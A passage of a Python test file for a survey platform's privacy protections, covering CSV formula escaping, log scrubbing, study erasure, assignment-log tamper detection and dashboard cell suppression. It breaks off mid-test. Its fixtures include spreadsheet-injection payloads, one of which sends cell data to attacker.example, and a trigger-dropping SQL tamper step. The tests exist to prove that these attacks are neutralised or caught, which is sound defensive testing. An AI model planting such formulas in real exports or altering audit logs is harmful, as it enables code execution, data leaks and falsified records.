"""Issue 15, exports and logs: what an export, a log file and the dashboard reveal; erasure.

Each test is an attack or a promise of docs/privacy.md:
- formula cells (`=cmd|...`, `+HYPERLINK`, `@SUM`, tab, carriage return) are neutralised
  in every CSV (tidy, long, the bundle's tidy.csv) while Parquet, SPSS and Stata keep
  the value as written, and a negative number stays a number;
- exports round times down to the hour (or the day) and durations to whole seconds;
  exact times only in an audit export, which the CLI warns about and which the audit
  trail records (the studio's is owner-only and confirmed);
- withdrawn participants are counts per arm, never rows;
- a log file written during a fuzz run and a crash holds no client address, user agent,
  panel id, participant code or query string (in-process, and under gunicorn);
- erase-study (confirmed) and purge-expired (with a fixed clock) leave only a tombstone;
- a tampered assignment log is caught by replay-assignments, and the database itself
  refuses UPDATE on the log (SQLite and PostgreSQL);
- dashboard counts by group cannot be undone by subtraction or by watching them move;
- the instance folder is 0700 and the database and secret files 0600;
- hundreds of participants behind one carrier address in a minute are all enrolled.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import logging
import random
import re
import socket
import stat
import time
import zipfile
from datetime import UTC, datetime, timedelta

import httpx
import pandas as pd
import pyreadstat
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from framelab.cli import main
from framelab.db import models as m
from framelab.db.review import AuditEvent
from framelab.domain.disclosure import protect_counts
from framelab.services import audit
from framelab.services.assignment_audit import replay_assignments
from framelab.services.bundle import build_bundle
from framelab.services.dashboard import FUNNEL, dashboard
from framelab.services.export import export_tidy, write_export
from framelab.services.flow import current_page, submit_step, withdraw
from framelab.services.study_versions import get_study, set_status
from framelab.testing.forms import csrf_token, form_action
from framelab.testing.server import framelab_server, prepare_database
from framelab.web.logs import GUNICORN_ACCESS_FORMAT, GUNICORN_LOGGER_CLASS, scrub
from tests.factories import make_study, publish, session_for, valid_answers
from tests.participants import enrol
from tests.web.conftest import make_app
from tests.web.walker import Walker

SPEC = make_study()
SLUG = SPEC.slug
# Deliberately not on an hour: exact times have minutes, seconds and microseconds.
T0 = datetime(2026, 11, 25, 14, 37, 12, 345678, tzinfo=UTC)
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE_TEXT = "A comment."
ADDRESS = "203.0.113.77"
AGENT = "FramelabProbe/9.9 (X11; PrivacyTest)"
PANEL_ID = "5f1e0c2b9a7d4e3f2a1b0c9d"
OWNER, ANALYST = "owner@example.org", "analyst@example.org"


def _walk(session, spec, *, start: datetime, until="debrief", source="sms", **answers) -> str:
    """One participant through the real flow with valid answers (`answers` per step)."""
    code = enrol(session, spec.slug, language="en", source=source, panel=None, now=start).code
    t = start
    while (page := current_page(session, code, now=t)).step != until:
        t += timedelta(seconds=41.37)
        form = valid_answers(spec, page.step, **answers.get(page.step, {}))
        assert submit_step(session, code, page.step, form, now=t).ok
    session.rollback()
    return code


@pytest.fixture
def filled(tmp_path):
    """The example study live with a formula in every free-text answer and a formula source."""
    url = f"sqlite:///{tmp_path / 'filled.sqlite'}"
    with session_for(url) as session:
        publish(session, SPEC, now=T0 - timedelta(days=1))
        codes = []
        for n, text in enumerate([*FORMULAS, SAFE_TEXT]):
            codes.append(
                _walk(
                    session,
                    SPEC,
                    start=T0 + timedelta(minutes=7 * n, seconds=n),
                    post={"comment": text},
                )
            )
        # A channel name is text from a link (?src=...): as attacker-chosen as an answer.
        codes.append(_walk(session, SPEC, start=T0 + timedelta(hours=2), source="=HYPERLINK(1)"))
        gone = _walk(session, SPEC, start=T0 + timedelta(hours=3), until="post")
        withdraw(session, gone, now=T0 + timedelta(hours=3, minutes=5))
        session.commit()
        yield url, session, codes


# ------------------------------------------------------------------ formula cells


def _csv_cells(data: bytes) -> list[str]:
    return [
        cell for row in pd.read_csv(io.BytesIO(data), dtype=str).fillna("").values for cell in row
    ]


def test_formula_cells_are_neutralised_in_every_csv_while_parquet_spss_stata_keep_them(
    filled, tmp_path
):
    _, session, _ = filled
    files = {}
    for fmt in ("csv", "long-csv", "parquet", "sav", "dta"):
        files[fmt] = tmp_path / f"export.{fmt}"
        write_export(session, SLUG, fmt, files[fmt])
    bundle = zipfile.ZipFile(io.BytesIO(build_bundle(session, get_study(session, SLUG))))
    csvs = {
        "tidy CSV": files["csv"].read_bytes(),
        "long CSV": files["long-csv"].read_bytes(),
        "bundle tidy.csv": bundle.read(f"{SLUG}/data/tidy.csv"),
    }
    # Parquet, SPSS and Stata keep the answers exactly as stored (answers are stored
    # trimmed, so the tab and carriage-return cases reach the CSV writer below).
    parquet = pd.read_parquet(files["parquet"])
    sav, _ = pyreadstat.read_sav(str(files["sav"]))
    dta, _ = pyreadstat.read_dta(str(files["dta"]))
    stored = {text.strip() for text in FORMULAS}
    for frame in (parquet, sav, dta):
        comments = set(frame["post_comment"])
        assert stored <= comments and SAFE_TEXT in comments
    assert "=HYPERLINK(1)" in set(parquet["source"].astype(str))
    for name, data in csvs.items():
        cells = _csv_cells(data)
        sources = ["=HYPERLINK(1)"] if name != "long CSV" else []  # the long file has no source
        for formula in [*stored, *sources]:
            assert "'" + formula in cells, (name, formula)
            assert formula not in cells, (name, formula)
        # no cell a spreadsheet would run
        dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert dangerous == [], (name, dangerous)
        assert SAFE_TEXT in cells
    # ...and the codebook says what the CSV did.
    book = json.loads(bundle.read(f"{SLUG}/codebook.json"))
    assert "apostrophe" in book["conventions"]["csv_formulas"]
    assert "Parquet, SPSS and Stata keep the value" in book["conventions"]["csv_formulas"]


def test_numbers_are_never_neutralised_a_negative_number_stays_a_number(filled):
    from framelab.services.export_files import csv_bytes

    _, session, _ = filled
    df = export_tidy(session, SLUG)
    df.loc[0, "post_donate"] = -3.0  # a numeric column (an answer code could be negative)
    df.loc[0, "post_comment"] = "-3"  # a text column with the same characters
    df.loc[1, "post_comment"] = "\t=1+1"  # leading tab and carriage return (OWASP)
    df.loc[2, "post_comment"] = "\r=1+1"
    rows = list(csv.DictReader(io.StringIO(csv_bytes(df, SPEC).decode(), newline="")))
    assert rows[0]["post_donate"] == "-3"
    assert rows[0]["post_comment"] == "'-3"
    assert rows[1]["post_comment"] == "'\t=1+1"
    assert rows[2]["post_comment"] == "'\r=1+1"


# ------------------------------------------------------------------ coarse times


def test_exports_round_times_to_the_hour_and_durations_to_whole_seconds_by_default(filled):
    _, session, _ = filled
    tidy = export_tidy(session, SLUG)
    for column in ("started_at", "assigned_at", "completed_at"):
        times = tidy[column].dropna()
        assert len(times) and (times == times.dt.floor("h")).all(), column
    for column in ("duration_seconds", "message_seconds"):
        values = tidy[column].dropna()
        assert len(values) and (values == values.round()).all(), column
    exact = export_tidy(session, SLUG, exact_times=True)
    assert (exact["started_at"] != exact["started_at"].dt.floor("h")).any()
    assert (exact["duration_seconds"] != exact["duration_seconds"].round()).any()
    # after_lock was computed from the exact times, before rounding
    assert tidy["after_lock"].all()
    from framelab.services.export import export_long

    answered = export_long(session, SLUG)["answered_at"]
    assert (answered == answered.dt.floor("h")).all()
    assert not (
        (e := export_long(session, SLUG, exact_times=True)["answered_at"]) == e.dt.floor("h")
    ).all()


def test_a_study_can_round_times_to_the_day_and_the_codebook_says_so(tmp_path):
    daily = make_study(privacy={"time_precision": "day"})
    assert "privacy" not in SPEC.canonical_json()  # unset: the old hash stays
    assert daily.content_hash() != SPEC.content_hash()
    with session_for(f"sqlite:///{tmp_path / 'daily.sqlite'}") as session:
        publish(session, daily)
        _walk(session, daily, start=T0)
        tidy = export_tidy(session, daily.slug)
        assert tidy["started_at"].iloc[0] == pd.Timestamp(T0.date(), tz="UTC")
        path = tmp_path / "codebook.json"
        write_export(session, daily.slug, "codebook-json", path)
        book = json.loads(path.read_text())
    assert book["times"] == "day"
    started = next(c for c in book["columns"] if c["name"] == "started_at")
    assert "rounded down to the day" in started["coding"]


def test_cli_audit_export_warns_and_is_recorded_in_the_audit_trail(filled, tmp_path):
    url, session, _ = filled
    runner = CliRunner()
    plain = tmp_path / "plain.csv"
    result = runner.invoke(main, ["export", SLUG, "--out", str(plain), "--database-url", url])
    assert result.exit_code == 0, result.output
    assert "warning" not in result.output.lower()
    exact = tmp_path / "exact.csv"
    result = runner.invoke(
        main, ["export", SLUG, "--out", str(exact), "--exact-times", "--database-url", url]
    )
    assert result.exit_code == 0, result.output
    assert "warning: --exact-times writes exact times" in result.output
    assert "audit export" in result.output
    rows = pd.read_csv(exact)
    assert pd.to_datetime(rows["started_at"]).dt.minute.ne(0).any()
    assert pd.to_datetime(pd.read_csv(plain)["started_at"]).dt.minute.eq(0).all()
    trail = [
        e for e in audit.trail(session, [get_study(session, SLUG).id]) if e.action == "exported"
    ]
    assert [("exact times" in e.detail, e.actor) for e in trail] == [
        (False, audit.COMMAND_LINE.name),
        (True, audit.COMMAND_LINE.name),
    ]
    assert str(exact.resolve()) in trail[1].detail


def test_studio_audit_export_is_for_the_owner_only_confirmed_and_recorded(client_for, studio_app):
    from framelab.web.database import EXTENSION_KEY
    from tests.studio.participants import complete_participant

    with studio_app.extensions[EXTENSION_KEY]() as session:
        set_status(session, SLUG, "live", now=T0)
        complete_participant(session, SLUG, start=T0)
        study_id = get_study(session, SLUG).id
    target = f"/studio/{SLUG}/audit-export"
    analyst = client_for(ANALYST)
    assert (
        analyst.post(target, data={"format": "csv", "confirm_exact_times": "yes"}).status_code
        == 403
    )
    owner = client_for(OWNER)
    downloads = owner.get(f"/studio/{SLUG}/downloads").get_data(as_text=True)
    assert 'id="audit-export"' in downloads and "confirm_exact_times" in downloads
    unconfirmed = owner.post(target, data={"format": "csv"})
    assert unconfirmed.status_code == 302 and "#audit-export" in unconfirmed.headers["Location"]
    assert (
        owner.post(target, data={"format": "xlsx", "confirm_exact_times": "yes"}).status_code == 400
    )
    response = owner.post(target, data={"format": "csv", "confirm_exact_times": "yes"})
    assert response.status_code == 200
    assert "AUDIT-exact-times" in response.headers["Content-Disposition"]
    started = pd.to_datetime(pd.read_csv(io.BytesIO(response.data))["started_at"])
    assert started.dt.minute.ne(0).any()  # exact
    plain = owner.get(f"/studio/{SLUG}/download/csv")
    assert pd.to_datetime(pd.read_csv(io.BytesIO(plain.data))["started_at"]).dt.minute.eq(0).all()
    with studio_app.extensions[EXTENSION_KEY]() as session:
        exported = [e for e in audit.trail(session, [study_id]) if e.action == "exported"]
    assert [e.actor for e in exported] == [OWNER, OWNER]
    assert "exact times" in exported[0].detail and "exact times" not in exported[1].detail


# ------------------------------------------------------------------ withdrawn participants


def test_withdrawn_participants_are_counts_per_arm_never_rows(filled, tmp_path):
    _, session, _ = filled
    tidy = export_tidy(session, SLUG)
    assert "withdrawn" not in set(tidy["status"])
    path = tmp_path / "codebook.md"
    write_export(session, SLUG, "codebook-md", path)
    text = path.read_text()
    # one withdrawal: a small cell, so its total and its arm are hidden
    assert "## Withdrawn participants" in text and "fewer than 10 withdrew in all" in text
    assert "| hidden |" in text and "| 1 |" not in text
    bundle = zipfile.ZipFile(io.BytesIO(build_bundle(session, get_study(session, SLUG))))
    rows = pd.read_csv(io.BytesIO(bundle.read(f"{SLUG}/data/tidy.csv")))
    assert len(rows) == len(tidy) and "withdrawn" not in set(rows["status"])


# ------------------------------------------------------------------ logs


def _leaks(text: str, codes: list[str]) -> list[str]:
    """Everything in `text` that a log must not hold."""
    found = []
    for line in text.splitlines():
        if line.startswith("Listening at: ") or "Listening at: " in line:
            continue  # gunicorn's own bind address
        for secret in (ADDRESS, "FramelabProbe", "PrivacyTest", PANEL_ID, *codes):
            if secret in line:
                found.append(f"{secret!r} in {line!r}")
        if re.search(r"(?i)(PROLIFIC_PID|workerId|STUDY_ID|SESSION_ID)=(?!\[redacted\])", line):
            found.append(f"panel id in {line!r}")
        if "127.0.0.1" in line:
            found.append(f"client address in {line!r}")
        if re.search(r"\?[A-Za-z_]+=", line):
            found.append(f"query string in {line!r}")
    return found


def _fuzz_requests(rng: random.Random, codes: list[str]) -> list[tuple[str, str, dict]]:
    """(method, path, form) of a small fuzz run: panel links, codes, junk."""
    requests = []
    paths = [
        f"/s/{SLUG}?PROLIFIC_PID={PANEL_ID}&STUDY_ID=s1&SESSION_ID=x9",
        f"/s/{SLUG}?src=sms&lang=es&workerId=A1B2C3D4E5F6G7",
        f"/s/no-such-study?PROLIFIC_PID={PANEL_ID}",
        "/p",
        "/p/withdraw",
        "/withdraw",
        "/r/" + "x" * 24,
        "/static/framelab.css?v=1",
        "/studio/login?next=/studio/" + SLUG,
    ]
    paths += [f"/r/{code}" for code in codes] + [f"/s/{SLUG}/p/{code}" for code in codes]
    junk = ["", "\u0000", "=cmd|' /C calc'!A0", "x" * 5000, "%FF%FE", "\u202e", PANEL_ID]
    for _ in range(120):
        path = rng.choice(paths)
        if rng.random() < 0.4:
            form = {
                rng.choice(["code", "step", "consent", "csrf_token", "support"]): rng.choice(junk)
            }
            requests.append(("POST", path, form))
        else:
            requests.append(("GET", path, {}))
    return requests


def _break_participant_pages(url: str) -> None:
    """The crash: a table the participant pages read disappears under the running app."""
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        conn.exec_driver_sql("ALTER TABLE page_visit RENAME TO page_visit_gone")
    engine.dispose()


def test_logs_after_a_fuzz_run_and_a_crash_hold_no_address_agent_panel_id_code_or_query(
    tmp_path, clock, caplog, capsys
):
    caplog.set_level(logging.DEBUG)
    url = f"sqlite:///{tmp_path / 'logs.sqlite'}"
    app = make_app(url, clock=clock, PROPAGATE_EXCEPTIONS=False)
    try:
        walkers = []
        for n in range(3):
            client = app.test_client()
            client.environ_base.update(
                {"REMOTE_ADDR": ADDRESS, "HTTP_USER_AGENT": AGENT, "HTTP_X_FORWARDED_FOR": ADDRESS}
            )
            walker = Walker(client, SPEC, clock)
            walker.consent(query=f"?PROLIFIC_PID={PANEL_ID}{n}&src=sms&lang=es")
            walker.answer("pre")
            walkers.append(walker)
        engine = app.extensions["framelab.engine"]
        with engine.connect() as conn:
            codes = [c for (c,) in conn.exec_driver_sql("SELECT code FROM participant")]
        assert len(codes) == 3
        rng = random.Random(15)
        client = app.test_client()
        client.environ_base.update({"REMOTE_ADDR": ADDRESS, "HTTP_USER_AGENT": AGENT})
        statuses = []
        for method, path, form in _fuzz_requests(rng, codes):
            response = client.open(path, method=method, data=form)
            statuses.append(response.status_code)
            response.close()  # a static file's response holds the file open
        assert 500 not in statuses  # the fuzz run itself breaks nothing
        # The crash: an exception inside a participant's page view.
        _break_participant_pages(url)
        crashed = [w.client.get("/p").status_code for w in walkers]
        crashed += [client.get(f"/s/{SLUG}/p/{code}").status_code for code in codes]
        assert 500 in crashed
    finally:
        app.extensions["framelab.engine"].dispose()
    assert any(r.exc_info or r.exc_text for r in caplog.records), "the crash was not logged"
    written = caplog.text + "\n" + capsys.readouterr().err
    assert "page_visit" in written  # the log does tell the operator what broke
    assert _leaks(written, codes) == []


class _Browser:
    """An HTTP client that keeps every cookie, Secure ones too, over plain HTTP.

    The server runs with production settings (Secure cookies); the test talks to it over
    HTTP on 127.0.0.1, as the load generator does.
    """

    def __init__(self, base_url: str, headers: dict[str, str]) -> None:
        self.client = httpx.Client(base_url=base_url, headers=headers, timeout=10)
        self.cookies: dict[str, str] = {}

    def request(self, method: str, path: str, **kwargs) -> httpx.Response:
        headers = {"Cookie": "; ".join(f"{k}={v}" for k, v in self.cookies.items())}
        response = self.client.request(
            method, path, headers=headers if self.cookies else None, **kwargs
        )
        self.client.cookies.clear()
        for header in response.headers.get_list("set-cookie"):
            name, _, rest = header.partition("=")
            value = rest.split(";", 1)[0]
            if value and "max-age=0" not in header.lower():
                self.cookies[name] = value
            else:
                self.cookies.pop(name, None)
        return response

    def get(self, path: str) -> httpx.Response:
        return self.request("GET", path)

    def post(self, path: str, data: dict) -> httpx.Response:
        return self.request("POST", path, data=data)

    def close(self) -> None:
        self.client.close()


def test_gunicorn_logs_after_a_fuzz_run_and_a_crash_hold_no_address_agent_panel_id_code_or_query(
    tmp_path,
):
    url = f"sqlite:///{tmp_path / 'served.sqlite'}"
    prepare_database(url)
    server = framelab_server(
        url,
        workers=1,
        env={"FRAMELAB_PROXY_FIX": "1", "FRAMELAB_ACCESS_LOG": "1", "FRAMELAB_REQUIRE_REVIEW": "0"},
        extra_args=[
            "--log-level", "debug", "--logger-class", GUNICORN_LOGGER_CLASS,
            "--access-logfile", "-", "--access-logformat", GUNICORN_ACCESS_FORMAT,
        ],
    )  # fmt: skip
    headers = {"User-Agent": AGENT, "X-Forwarded-For": ADDRESS}
    with server:
        clients = []
        for n in range(2):
            client = _Browser(server.base_url, headers)
            page = client.get(f"/s/{SLUG}?PROLIFIC_PID={PANEL_ID}{n}&src=sms")
            assert page.status_code == 200, page.text[:300]
            consent = client.post(
                form_action(page.text),
                data={"csrf_token": csrf_token(page.text), "step": "consent", "consent": "yes"},
            )
            assert consent.status_code in (302, 303), consent.text[:300]
            assert client.get(consent.headers["Location"]).status_code == 200
            clients.append(client)
        engine = sa.create_engine(url)
        with engine.connect() as conn:
            codes = [c for (c,) in conn.exec_driver_sql("SELECT code FROM participant")]
        engine.dispose()
        assert len(codes) == 2
        fuzz = _Browser(server.base_url, headers)
        for method, path, form in _fuzz_requests(random.Random(16), codes):
            assert fuzz.request(method, path, data=form).status_code < 500, path
        # Requests gunicorn itself refuses: it logs "Invalid request from ip=...".
        for raw in (
            f"GET /s/{SLUG}?PROLIFIC_PID={PANEL_ID} HTTP/1.1 junk\r\n\r\n",
            f"GET /s/{SLUG} HTTP/1.1\r\nHost: x\r\nPROLIFIC_PID={PANEL_ID}\r\n\r\n",
        ):
            with socket.create_connection(("127.0.0.1", server.port), timeout=5) as sock:
                sock.sendall(raw.encode())
                sock.recv(4096)
        _break_participant_pages(url)
        crashed = [c.get("/p").status_code for c in clients]
        crashed += [fuzz.get(f"/s/{SLUG}/p/{code}?src=sms").status_code for code in codes]
        assert 500 in crashed
        for client in (*clients, fuzz):
            client.close()
        time.sleep(0.3)
        log = server.log_path.read_text(errors="replace")
    assert "Invalid request from ip=[address]" in log
    assert "Traceback" in log and "page_visit" in log  # the crash is in the log, scrubbed
    assert '"GET /s/torture-ban HTTP/1.1" 200' in log  # the opted-in access log, no query
    assert _leaks(log, codes) == []


def test_the_scrubber_covers_what_gunicorn_flask_and_the_database_write():
    code = "Hk3x9aZq_PoL2mNbV8cR4tYu"
    lines = {
        f"Invalid request from ip={ADDRESS}: Invalid HTTP request line: "
        f"'GET /s/x?PROLIFIC_PID={PANEL_ID} HTTP/1.1'": ["[address]", "/s/x HTTP/1.1"],
        f"Error handling request /s/x?PROLIFIC_PID={PANEL_ID}&src=sms": ["request /s/x"],
        f"Exception on /s/x/p/{code} [GET]": ["/s/x/p/[code]"],
        f"Exception on /r/{code} [GET]": ["/r/[code]"],
        f"[SQL: SELECT * FROM participant WHERE code = ?]\n[parameters: ('{code}',)]": [
            "[parameters: redacted]"
        ],
        "DETAIL:  Key (code)=(abc) already exists.": ["Key (code)=(redacted)"],
        "from 2001:db8::7 and ::1": ["from [address] and [address]"],
        f"User-Agent: {AGENT}": ["User-Agent: [user agent]"],
        "workerId=A1B2C3D4E5F6G7&hitId=3XYZ": ["workerId=[redacted]"],
        f"participant {code} withdrew": ["participant [token] withdrew"],
    }
    for line, expected in lines.items():
        clean = scrub(line)
        for part in expected:
            assert part in clean, (line, clean)
        assert not _leaks(clean, [code]), clean
    # What the operator needs stays readable.
    for kept in (
        "Listening at: http://127.0.0.1:8000 (4242)",
        "ParticipantNotFoundError at 2026-11-25 10:00:00 in framelab.services.flow",
        'File "/srv/.venv/lib/python3.11/site-packages/werkzeug/serving.py", line 12',
        "spec d39090f9154a3131c086d6f4d74a472748ffc54c85b04d995950becd0ee95586",
    ):
        assert scrub(kept) == kept


# ------------------------------------------------------------------ erase and retention


def test_erase_study_needs_the_slug_and_leaves_only_a_tombstone(filled, tmp_path):
    url, session, codes = filled
    runner = CliRunner()
    export = tmp_path / "exports" / "tidy.csv"
    assert (
        runner.invoke(main, ["export", SLUG, "--out", str(export), "--database-url", url]).exit_code
        == 0
    )
    refused = runner.invoke(main, ["erase-study", SLUG, "--database-url", url])
    assert refused.exit_code != 0 and f"--confirm {SLUG}" in refused.output
    wrong = runner.invoke(main, ["erase-study", SLUG, "--confirm", "other", "--database-url", url])
    assert wrong.exit_code != 0
    study_id = get_study(session, SLUG).id
    session.rollback()
    assert _count(url, "participant") == len(codes) + 1 and export.exists()
    done = runner.invoke(main, ["erase-study", SLUG, "--confirm", SLUG, "--database-url", url])
    assert done.exit_code == 0, done.output
    assert f"export file {export.resolve()}: deleted" in done.output
    assert not export.exists()
    for table in ("participant", "response", "page_visit", "assignment_log", "block_state"):
        assert _count(url, table) == 0, table
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        dump = "\n".join(
            str(tuple(row))
            for table in ("study", "study_version", "audit_event")
            for row in conn.exec_driver_sql(f"SELECT * FROM {table}")
        )
        study = conn.execute(sa.select(m.Study.status, m.Study.erased_at)).one()
        (detail,) = conn.execute(
            sa.select(AuditEvent.detail).where(AuditEvent.action == "erased")
        ).one()
    engine.dispose()
    assert study.status == "closed" and study.erased_at is not None
    counts = json.loads(detail.split(": removed ", 1)[1])
    assert counts["participants"] == len(codes) + 1 and counts["status_withdrawn"] == 1
    assert counts["assignment_log"] == len(codes) + 1 and counts["response"] > 0
    for code in codes:
        assert code not in dump
    assert study_id and "erase-study" in detail


def test_erasing_a_campaign_erases_every_version_and_a_version_only_itself(tmp_path):
    from framelab.services import accounts, study_lifecycle

    url = f"sqlite:///{tmp_path / 'campaign.sqlite'}"
    with session_for(url) as session:
        publish(session, SPEC, now=T0)
        _walk(session, SPEC, start=T0)
        owner = accounts.create_user(session, OWNER, "correct horse battery", now=T0)
        second = study_lifecycle.new_version(session, SLUG, account=owner, now=T0)
        third = study_lifecycle.new_version(session, SLUG, account=owner, now=T0)
        for version in (second, third):
            set_status(session, version.slug, "live", now=T0)
            _walk(session, second.spec if version is second else third.spec, start=T0)
    runner = CliRunner()
    only = runner.invoke(
        main, ["erase-study", third.slug, "--confirm", third.slug, "--database-url", url]
    )
    assert only.exit_code == 0, only.output
    assert f"{third.slug}: erased" in only.output and f"{SLUG}: erased" not in only.output
    assert _count(url, "participant") == 2
    refused = runner.invoke(main, ["erase-study", SLUG, "--database-url", url])
    assert refused.exit_code != 0 and f"it would erase: {SLUG}, {second.slug}, {third.slug}" in (
        refused.output
    )
    whole = runner.invoke(main, ["erase-study", SLUG, "--confirm", SLUG, "--database-url", url])
    assert whole.exit_code == 0, whole.output
    assert _count(url, "participant") == 0 and _count(url, "assignment_log") == 0
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        erased = conn.execute(sa.select(m.Study.slug).where(m.Study.erased_at.is_not(None)))
        assert sorted(erased.scalars()) == sorted([SLUG, second.slug, third.slug])
    engine.dispose()


def _count(url: str, table: str) -> int:
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        n = conn.exec_driver_sql(f"SELECT COUNT(*) FROM {table}").scalar_one()
    engine.dispose()
    return n


def test_purge_expired_erases_a_closed_study_only_once_its_retention_has_run_out(tmp_path):
    url = f"sqlite:///{tmp_path / 'retention.sqlite'}"
    kept = make_study(slug="kept-study")  # no retention period: kept until erased
    short = make_study(slug="short-study", privacy={"retention_days": 30})
    running = make_study(slug="running-study", privacy={"retention_days": 30})
    closed_at = T0 + timedelta(days=2)
    with session_for(url) as session:
        for spec in (kept, short, running):
            publish(session, spec, now=T0)
            _walk(session, spec, start=T0 + timedelta(hours=1))
        for spec in (kept, short):
            set_status(session, spec.slug, "closed", now=closed_at)
    runner = CliRunner()

    def purge(now: datetime) -> str:
        result = runner.invoke(
            main, ["purge-expired", "--now", now.isoformat(), "--database-url", url]
        )
        assert result.exit_code == 0, result.output
        return result.output

    assert "no study's retention period has run out" in purge(closed_at + timedelta(days=29))
    assert _count(url, "participant") == 3
    out = purge(closed_at + timedelta(days=30))
    assert "short-study: erased" in out and "kept-study" not in out and "running-study" not in out
    with session_for(url) as session:
        remaining = session.scalars(
            sa.select(m.Study.slug).join(m.Participant, m.Participant.study_id == m.Study.id)
        ).all()
        erased = session.scalar(sa.select(m.Study.erased_at).where(m.Study.slug == "short-study"))
    assert sorted(remaining) == ["kept-study", "running-study"]
    assert erased == closed_at + timedelta(days=30)  # the fixed clock
    assert "no study's retention period" in purge(closed_at + timedelta(days=400))
    bad = runner.invoke(main, ["purge-expired", "--now", "tomorrow", "--database-url", url])
    assert bad.exit_code == 2 and "ISO 8601" in bad.output


# ------------------------------------------------------------------ assignment log


def test_replay_finds_nothing_on_a_clean_log_and_every_divergence_in_a_tampered_one(filled):
    url, session, codes = filled
    runner = CliRunner()
    clean = runner.invoke(main, ["replay-assignments", SLUG, "--database-url", url])
    assert clean.exit_code == 0, clean.output
    assert f"{len(codes) + 1} assignments replay from seed {SPEC.design.seed}" in clean.output
    assert runner.invoke(main, ["audit", SLUG, "--database-url", url]).output == clean.output
    # Someone with the database file (not framelab) drops the trigger and swaps an arm.
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        conn.exec_driver_sql("DROP TRIGGER assignment_log_no_update")
        conn.exec_driver_sql(
            "UPDATE assignment_log SET arm = CASE WHEN arm = 'control' THEN 'care' "
            "ELSE 'control' END WHERE id = (SELECT MIN(id) FROM assignment_log)"
        )
        conn.exec_driver_sql(
            "UPDATE assignment_log SET position = position + 5 "
            "WHERE id = (SELECT MAX(id) FROM assignment_log)"
        )
    engine.dispose()
    tampered = runner.invoke(main, ["replay-assignments", SLUG, "--database-url", url])
    assert tampered.exit_code == 1
    assert "logged arm" in tampered.output and "the seed gives" in tampered.output
    assert "participants were assigned it" in tampered.output
    assert "positions are not" in tampered.output
    audited = runner.invoke(main, ["audit", SLUG, "--database-url", url])
    assert (audited.exit_code, audited.output) == (1, tampered.output)
    report = replay_assignments(session, get_study(session, SLUG))
    assert not report.ok and len(report.divergences) >= 3


def test_the_bundle_carries_the_assignment_log_without_identifiers(filled):
    _, session, codes = filled
    bundle = zipfile.ZipFile(io.BytesIO(build_bundle(session, get_study(session, SLUG))))
    log = pd.read_csv(io.BytesIO(bundle.read(f"{SLUG}/assignment_log.csv")))
    assert list(log.columns) == [
        "stratum", "position", "block_index", "position_in_block", "arm", "spec_hash",
        "pilot", "rehearsal",
    ]  # fmt: skip
    assert len(log) == len(codes) + 1  # the withdrawn participant's slot too
    text = bundle.read(f"{SLUG}/assignment_log.csv").decode()
    assert not any(code in text for code in codes) and "participant" not in text
    # The log replays from the bundle's own seed and study file, without the server.
    from framelab.domain.assignment import arm_for_slot
    from framelab.domain.study import load_study

    spec = load_study(bundle.read(f"{SLUG}/study.yaml").decode())
    assert all(
        arm_for_slot(spec, row.stratum, row.position).arm == row.arm for row in log.itertuples()
    )
    assert "assignment_log.csv" in bundle.read(f"{SLUG}/README.txt").decode()


def test_the_database_refuses_to_update_the_assignment_log(database_url):
    from framelab.db.migrate import upgrade
    from framelab.db.session import make_engine

    upgrade(database_url)
    engine = make_engine(database_url)
    try:
        with session_for(database_url) as session:
            publish(session, SPEC, now=T0)
            _walk(session, SPEC, start=T0, until="message")
            study_id = get_study(session, SLUG).id
            session.rollback()
        for statement in (
            "UPDATE assignment_log SET arm = 'care'",
            "DELETE FROM assignment_log",
        ):
            with (
                pytest.raises(sa.exc.IntegrityError, match="append-only"),
                engine.begin() as conn,
            ):
                conn.exec_driver_sql(statement)
        with engine.connect() as conn:
            assert conn.exec_driver_sql("SELECT COUNT(*) FROM assignment_log").scalar_one() == 1
        # Erasure may delete the log, and only its own study's rows, while its marker is set.
        with engine.begin() as conn:
            conn.execute(sa.insert(m.AssignmentLogErasure).values(study_id=study_id + 1))
            with (
                pytest.raises(sa.exc.IntegrityError, match="append-only"),
                conn.begin_nested(),
            ):
                conn.exec_driver_sql("DELETE FROM assignment_log")
            conn.execute(sa.delete(m.AssignmentLogErasure))
    finally:
        engine.dispose()


# ------------------------------------------------------------------ dashboard


def _arrive(session, study_id: int, version_id: int, n: int, stratum: str, arm: str, t: datetime):
    session.add(
        m.Participant(
            study_id=study_id, study_version_id=version_id, spec_hash="h", language="en",
            source="sms", stratum=stratum, arm=arm, status="assigned", step="message",
            started_at=t, consented_at=t, assigned_at=t,
        )
    )  # fmt: skip
    session.commit()


def _shown(figures) -> list[tuple[str, ...]]:
    return [tuple(c.text for c in row.cells) for row in figures.strata]


def test_dashboard_small_cells_cannot_be_recovered_by_subtraction_or_successive_views(tmp_path):
    url = f"sqlite:///{tmp_path / 'dash.sqlite'}"
    minimum = SPEC.quality.min_cell_size
    # 3 people in `left` among 57: one small stratum in a live stream of arrivals.
    order = ["centre"] * 20 + ["left"] + ["right"] * 15 + ["left"] + ["centre"] * 19 + ["left"]
    truth = {"left": 0, "centre": 0, "right": 0}
    with session_for(url) as session:
        loaded = publish(session, SPEC, now=T0)
        views = []
        for n, stratum in enumerate(order):
            t = T0 + timedelta(minutes=n)
            _arrive(session, loaded.id, loaded.version_id, n, stratum, SPEC.arm_ids[n % 5], t)
            truth[stratum] += 1
            figures = dashboard(session, get_study(session, SLUG))
            views.append((dict(truth), figures))
    for n, (counts, figures) in enumerate(views):
        assert figures.total.assigned == n + 1  # the whole study: exact
        for column in range(len(FUNNEL)):
            cells = [row.cells[column] for row in figures.strata]
            hidden = [c for c in cells if c.hidden]
            # Subtraction: never exactly one hidden cell, and the hidden ones add up to
            # at least the minimum, so the total minus the visible never gives a small one.
            assert len(hidden) != 1
            if hidden:  # only the columns every arrival is in: started, consented, assigned
                released = (n + 1) // minimum * minimum
